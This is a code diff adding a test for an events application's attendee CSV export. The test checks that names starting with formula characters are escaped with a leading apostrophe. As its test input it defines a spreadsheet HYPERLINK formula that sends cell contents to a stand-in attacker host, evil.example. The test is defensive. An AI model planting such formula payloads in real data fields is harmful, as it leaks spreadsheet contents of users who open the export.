@@ -414,3 +414,21 @@ def test_a_members_only_events_online_link_is_for_members():
     assert "meet.example" not in ics
     page = outsider.get(f"/events/{event.pk}/").content.decode()
     assert "meet.example" not in page
+
+
+EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+def test_attendee_csv_keeps_a_formula_name_as_text():
+    event = EventFactory(slug="osaka-forum")
+    services.registration_create(actor=member(first_name=EVIL, last_name=""), event=event)
+    services.registration_create(actor=member(first_name="-2+3", last_name=""), event=event)
+    staff = client_for(StaffFactory())
+    response = staff.get(f"/api/v1/events/{event.pk}/attendees.csv")
+    table = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    assert [row[1] for row in table[1:]] == ["'" + EVIL, "'-2+3"]
+    assert [row[0] for row in table[1:]] == [
+        str(r.pk) for r in event.registrations.order_by("created_at")
+    ]
+    # The JSON list is the data as it is.
+    assert staff.get(f"/api/v1/events/{event.pk}/attendees/").json()[0]["name"] == EVIL
